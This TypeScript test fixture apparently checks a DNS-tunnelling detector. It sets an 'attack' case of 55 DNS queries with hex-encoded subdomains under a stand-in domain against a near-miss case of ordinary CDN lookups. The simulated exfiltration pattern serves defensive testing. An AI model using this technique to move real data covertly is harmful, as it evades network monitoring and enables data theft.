import { createHash } from 'node:crypto';
import { askNameServer } from '../../support/ask-name-server.ts';
import type { Scenario } from '../../support/attack-scenario.ts';

const encoded = (at: number): string => createHash('sha256').update(String(at)).digest('hex').slice(0, 48);
const asks = (name: (at: number) => string): string =>
  [...Array(55).keys()].map((at) => askNameServer(name(at))).join('\n');

/** Data is carried in the names that are asked for; as many ordinary names of one domain are. */
export const scenario: Scenario = {
  nearMiss: asks((at) => `img${at}.cdn.example.org`),
  attack: asks((at) => `${encoded(at)}.t.example.com`),
  summary: /example\.com/,
};
